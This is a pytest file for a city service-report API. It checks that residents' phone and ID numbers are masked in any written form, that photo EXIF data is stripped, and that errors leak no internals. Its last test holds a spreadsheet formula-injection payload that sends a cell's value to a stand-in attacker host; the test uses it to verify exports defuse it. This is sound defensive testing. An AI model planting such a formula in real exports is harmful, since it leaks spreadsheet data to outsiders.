"""Privacy: residents' phone numbers never appear in full in staff lists, exports or Open311 answers; photos are
served without metadata; clients never see a stack trace."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from flask import g
from PIL import Image

from service_api.extensions import db
from service_api.models import Case
from tests.service_api.images import jpeg_bytes
from tests.staff.conftest import staff_client  # noqa: F401  (fixture)

PHONE = "13912345678"
O311 = "/open311/v2"


def call(client, method: str, url: str, headers: dict[str, str] | None = None, **kw):
    g.pop("principal", None)
    return getattr(client, method)(url, headers=headers or {}, **kw)


@pytest.fixture
def reported(app, client, service_headers) -> dict[str, str]:
    """A hotline report with the caller's phone and name, registered and dispatched; an Open311 key."""
    from service_api.open311.keys import create_key

    created = call(client, "post", "/api/v1/reports", service_headers, json={
        "description": "香港中路12号门口的污水井盖丢了，很危险", "address": "香港中路12号", "channel": "hotline",
        "contact": {"phone": PHONE, "name": "王小明"}})
    assert created.status_code == 201, created.json
    _, key = create_key("privacy partner")
    db.session.commit()
    return {"case_no": created.json["case_no"], "report_id": str(created.json["id"]), "key": key}


def _text(response) -> str:
    """The body as text; an XLSX export as the text of every part of the workbook."""
    data = response.get_data()
    if data[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(data)) as workbook:
            return "".join(workbook.read(name).decode("utf-8", "replace") for name in workbook.namelist())
    return data.decode("utf-8", "replace")


def _assert_no_phone(response, where: str) -> None:
    text = _text(response)
    assert response.status_code == 200, f"{where}: {response.status_code}"
    assert PHONE not in text, f"full phone number in {where}"


def test_staff_api_lists_mask_phones(client, reported, make_staff) -> None:
    _, dispatcher = make_staff("dispatcher")
    for url in ("/api/v1/cases", f"/api/v1/cases/{reported['case_no']}", "/api/v1/notifications?status=pending",
                "/api/v1/notifications?status=sent"):
        response = call(client, "get", url, dispatcher)
        _assert_no_phone(response, url)
    detail = call(client, "get", f"/api/v1/cases/{reported['case_no']}", dispatcher).get_data(as_text=True)
    assert "139****5678" in detail  # masked, not dropped: staff can still tell callers apart


def test_staff_console_pages_and_exports_mask_phones(client, reported, staff_client) -> None:  # noqa: F811
    console, _ = staff_client("admin")  # sees every page
    for url in ("/staff/", "/staff/cases", f"/staff/cases/{reported['case_no']}", "/staff/calls", "/staff/callbacks",
                "/staff/stats", "/staff/stats/export.csv", "/staff/stats/export.xlsx"):
        _assert_no_phone(console.get(url, follow_redirects=True), url)


@pytest.mark.parametrize("url", ["/requests.json", "/requests.xml"])
def test_open311_lists_mask_phones(client, reported, url) -> None:
    response = call(client, "get", f"{O311}{url}", query_string={"api_key": reported["key"]})
    _assert_no_phone(response, url)


def test_open311_single_request_and_public_case_mask_phones(client, reported) -> None:
    case = db.session.query(Case).filter_by(case_no=reported["case_no"]).one()
    for url in (f"{O311}/requests/{reported['report_id']}.json", f"{O311}/requests/{case.case_no}.json",
                f"/api/v1/public/cases/{case.case_no}"):
        response = call(client, "get", url, query_string={"api_key": reported["key"]})
        if response.status_code == 404:
            continue  # Open311 ids are its own; the list test covers the content
        _assert_no_phone(response, url)


def test_open311_strips_phones_written_into_descriptions(client, service_headers) -> None:
    from service_api.open311.keys import create_key

    _, key = create_key("privacy partner 2")
    db.session.commit()
    call(client, "post", "/api/v1/reports", service_headers, json={
        "description": f"五四广场垃圾桶满了，有事打我电话{PHONE}", "address": "五四广场", "channel": "hotline"})
    response = call(client, "get", f"{O311}/requests.json", query_string={"api_key": key})
    _assert_no_phone(response, "Open311 description")


@pytest.mark.parametrize("kind", ["", "/thumb"])
def test_photos_are_served_without_metadata(client, kind) -> None:
    original = jpeg_bytes(gps=(36.0620, 120.3845), taken="2026:11:20 09:30:00")
    assert b"Exif" in original
    uploaded = call(client, "post", "/api/v1/photos", data={"file": (io.BytesIO(original), "a.jpg")},
                    content_type="multipart/form-data")
    assert uploaded.status_code == 201 and uploaded.json["gps"]
    served = call(client, "get", f"/api/v1/photos/{uploaded.json['id']}{kind}")
    assert served.status_code == 200 and served.mimetype == "image/jpeg"
    data = served.data
    assert b"Exif" not in data and b"GPS" not in data and b"2026:11:20" not in data
    image = Image.open(io.BytesIO(data))
    assert not image.getexif() and "exif" not in image.info


SECRET_DETAIL = "psycopg.OperationalError: password=hunter2 at /work/main/service_api/secret.py line 42"


@pytest.fixture
def broken(monkeypatch):
    """Make the public case view and the Open311 list fail with an unexpected exception."""
    def boom(*args, **kwargs):
        raise RuntimeError(SECRET_DETAIL)

    import service_api.api.public as public
    import service_api.open311.views as open311_views

    monkeypatch.setattr(public, "public_case", boom)
    monkeypatch.setattr(open311_views.query, "find_reports", boom)
    return boom


def _assert_clean_500(response) -> None:
    text = response.get_data(as_text=True)
    assert response.status_code == 500
    assert "Traceback" not in text and "hunter2" not in text and "secret.py" not in text and "RuntimeError" not in text


def test_unexpected_error_in_an_api_view_is_a_clean_json_500(client, reported, broken) -> None:
    response = call(client, "get", f"/api/v1/public/cases/{reported['case_no']}")
    _assert_clean_500(response)
    assert response.json == {"status": 500, "code": "internal_error", "message": "服务器内部错误，请稍后再试"}


def test_unexpected_error_in_open311_is_a_clean_500(client, reported, broken) -> None:
    for fmt in ("json", "xml"):
        response = call(client, "get", f"{O311}/requests.{fmt}", query_string={"api_key": reported["key"]})
        _assert_clean_500(response)


def test_unexpected_error_in_a_staff_page_shows_no_traceback(client, reported, staff_client, monkeypatch  # noqa: F811
                                                             ) -> None:
    import service_api.staff.case_desk as views  # the module of /staff/cases

    console, _ = staff_client("dispatcher")

    def boom(*args, **kwargs):
        raise RuntimeError(SECRET_DETAIL)

    monkeypatch.setattr(views, "render_template", boom)
    response = console.get("/staff/cases")
    _assert_clean_500(response)


def test_database_outage_is_a_503_to_retry_not_a_500(client, reported, monkeypatch) -> None:
    """While PostgreSQL restarts, clients are told to retry (503 + Retry-After), without internals."""
    from sqlalchemy.exc import OperationalError

    import service_api.api.public as public

    def down(*args, **kwargs):
        raise OperationalError("SELECT 1", {}, Exception("server closed the connection unexpectedly"))

    monkeypatch.setattr(public, "public_case", down)
    response = call(client, "get", f"/api/v1/public/cases/{reported['case_no']}")
    assert response.status_code == 503 and response.headers["Retry-After"]
    assert response.json["code"] == "unavailable"
    assert "server closed" not in response.get_data(as_text=True)


def test_database_outage_is_a_503_in_open311_too(client, reported, monkeypatch) -> None:
    from sqlalchemy.exc import OperationalError

    import service_api.open311.views as open311_views

    def down(*args, **kwargs):
        raise OperationalError("SELECT 1", {}, Exception("the database system is shutting down"))

    monkeypatch.setattr(open311_views.query, "find_reports", down)
    response = call(client, "get", f"{O311}/requests.json", query_string={"api_key": reported["key"]})
    assert response.status_code == 503


# -- every written form of a phone or ID number, everywhere residents' text is shown (issue 17 item 11) ------------

WRITTEN_FORMS = ("139-1234-5678", "+86 139 1234 5678", "１３９１２３４５６７８", "370202199001011234",
                 "1 3 9 1 2 3 4 5 6 7 8")


def _digit_runs_of(text: str) -> str:
    """The text with full-width digits made ASCII and separators removed, to look for a number in any form."""
    import unicodedata

    return "".join(ch for ch in unicodedata.normalize("NFKC", text) if ch not in " -\u3000")


def _assert_no_written_number(text: str, where: str) -> None:
    flat = _digit_runs_of(text)
    assert "13912345678" not in flat, f"phone number in {where}"
    assert "370202199001011234" not in flat and "19900101" not in flat, f"ID number in {where}"


def test_open311_list_masks_phones_and_id_numbers_in_any_form(client, service_headers) -> None:
    from service_api.open311.keys import create_key

    _, key = create_key("privacy partner 3")
    db.session.commit()
    for form in WRITTEN_FORMS:
        created = call(client, "post", "/api/v1/reports", service_headers, json={
            "description": f"五四广场垃圾桶满了，联系我{form}", "address": "五四广场", "channel": "hotline"})
        assert created.status_code == 201, created.json
    for url in ("/requests.json", "/requests.xml"):
        response = call(client, "get", f"{O311}{url}", query_string={"api_key": key, "extensions": "true"})
        assert response.status_code == 200
        assert response.get_data(as_text=True).count("五四广场垃圾桶满了") == len(WRITTEN_FORMS)
        _assert_no_written_number(response.get_data(as_text=True), url)


def test_a_number_typed_digit_by_digit_is_masked_everywhere_the_description_shows(
        client, service_headers, staff_client, make_staff) -> None:  # noqa: F811
    from service_api.open311.keys import create_key

    _, key = create_key("privacy partner 4")
    db.session.commit()
    created = call(client, "post", "/api/v1/reports", service_headers, json={
        "description": "五四广场垃圾桶满了，联系我 1 3 9 1 2 3 4 5 6 7 8", "address": "五四广场", "channel": "hotline",
        "contact": {"phone": "13700001111"}})
    assert created.status_code == 201, created.json
    case = db.session.query(Case).filter_by(case_no=created.json["case_no"]).one()
    console, _ = staff_client("admin")
    _, dispatcher = make_staff("dispatcher")
    pages = {"staff case page": console.get(f"/staff/cases/{case.case_no}"),
             "case API": call(client, "get", f"/api/v1/cases/{case.case_no}", dispatcher),
             "staff map popup": call(client, "get", f"/api/v1/map/cases/{case.id}", dispatcher),
             "caller's history on the hotline page": console.get("/staff/calls/new?phone=13700001111"),
             "Open311": call(client, "get", f"{O311}/requests.json", query_string={"api_key": key})}
    for where, response in pages.items():
        assert response.status_code == 200, where
        text = response.get_data(as_text=True)
        assert "五四广场垃圾桶满了" in text, where
        assert "139****5678" in text, where  # masked, not dropped
        _assert_no_written_number(text, where)


def _closed_case_with(comment: str, outcome: str, contact_name: str = "王小明") -> Case:
    from datetime import timedelta

    from service_api.models import CaseEvent, Rating, Report, utcnow

    at = utcnow() - timedelta(days=1)
    case = Case(case_no="C370202-20260101-00091", status="closed", source_channel="hotline", matter_code="06042",
                description="垃圾满溢", outcome=outcome, created_at=at, closed_at=at)
    db.session.add(case)
    db.session.flush()
    report = Report(tracking_no="R20260101000091", channel="hotline", description="垃圾满溢", case_id=case.id,
                    contact_phone="13912345678", contact_name=contact_name, created_at=at)
    db.session.add(report)
    db.session.flush()
    db.session.add(CaseEvent(case_id=case.id, report_id=report.id, action="receive", to_status="received",
                             actor_type="resident", actor_name=contact_name, note=f"居民补充：{comment}"))
    db.session.add(Rating(case_id=case.id, report_id=report.id, rating="unsatisfied", comment=comment,
                          channel="hotline"))
    db.session.commit()
    return case


@pytest.mark.parametrize("form", WRITTEN_FORMS)
def test_staff_pages_exports_and_public_page_mask_numbers_in_comments(client, staff_client, form) -> None:  # noqa: F811
    case = _closed_case_with(f"还是很脏，打我{form}", f"已清运，回访电话{form}")
    console, _ = staff_client("admin")
    for url in (f"/staff/cases/{case.case_no}", "/staff/stats", "/staff/stats/export.xlsx"):
        response = console.get(url)
        assert response.status_code == 200, url
        text = _text(response)
        assert "还是很脏" in text, url
        _assert_no_written_number(text, url)
    public = call(client, "get", "/r/R20260101000091")
    assert public.status_code == 200 and "已清运" in public.get_data(as_text=True)
    _assert_no_written_number(public.get_data(as_text=True), "/r/ public page")


def test_staff_see_resident_names_masked_in_case_events(client, staff_client, make_staff) -> None:  # noqa: F811
    case = _closed_case_with("太慢", "已清运", contact_name="王先生")
    _, dispatcher = make_staff("dispatcher")
    detail = call(client, "get", f"/api/v1/cases/{case.case_no}", dispatcher).json
    assert [e["actor_name"] for e in detail["events"]] == ["王*生"]
    assert detail["reports"][0]["contact_name"] == "王*生"
    console, _ = staff_client("dispatcher")
    page = console.get(f"/staff/cases/{case.case_no}").get_data(as_text=True)
    assert "王先生" not in page and "王*生" in page


def test_exports_never_run_residents_text_as_a_formula(staff_client) -> None:  # noqa: F811
    from openpyxl import load_workbook

    attack = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
    _closed_case_with(attack, "已清运")
    console, _ = staff_client("reviewer")
    book = load_workbook(io.BytesIO(console.get("/staff/stats/export.xlsx?group_by=matter").data))
    cells = [cell for row in book["不满意评价"].iter_rows() for cell in row]
    comment = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
    # A text cell: shown exactly as the resident wrote it (no apostrophe), never run.
    assert comment.data_type == "s" and comment.value == attack
    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    # CSV has no cell types: there the apostrophe is the defence.
    rows = list(csv.reader(console.get("/staff/stats/export.csv?group_by=matter").get_data(as_text=True)
                           .splitlines()))
    assert ["'" + attack] == [value for row in rows for value in row if "HYPERLINK" in value]
